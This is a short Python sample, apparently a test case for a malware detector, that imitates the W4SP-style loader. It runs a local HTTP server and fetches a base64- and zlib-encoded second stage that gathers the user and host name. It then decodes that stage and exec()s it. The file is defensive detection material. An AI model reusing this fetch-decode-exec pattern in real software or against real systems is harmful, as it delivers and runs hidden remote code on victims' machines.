# technique: T1059.006 T1105 T1027 T1140
"""Ingress tool transfer of a second stage, base64+zlib layered, run with exec (T1105, T1059.006, T1027, T1140).

The W4SP/"pyobfuscate" family: the first stage fetches text from a paste-like
URL with urllib.request.urlopen, base64-decodes and zlib-decompresses it and
exec()s the result. The second stage here just collects the user and host
name; the behaviour that matters is network bytes becoming executed code.

A good detector raises a high alert: code compiled from bytes that arrived
over the network is executed.
"""
import base64, http.server, threading, urllib.request, zlib

STAGE2 = b"import getpass, socket\nRESULT = (getpass.getuser(), socket.gethostname())\n"
BODY = base64.b64encode(zlib.compress(STAGE2))

class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.end_headers(); self.wfile.write(BODY)
    def log_message(self, *a): pass

srv = http.server.HTTPServer(("127.0.0.1", 0), H)
threading.Thread(target=srv.serve_forever, daemon=True).start()
try:
    blob = urllib.request.urlopen(f"http://127.0.0.1:{srv.server_address[1]}/raw/x", timeout=3).read()
    exec(zlib.decompress(base64.b64decode(blob)), {"__name__": "__stage2__"})
except Exception:
    pass
finally:
    srv.shutdown()
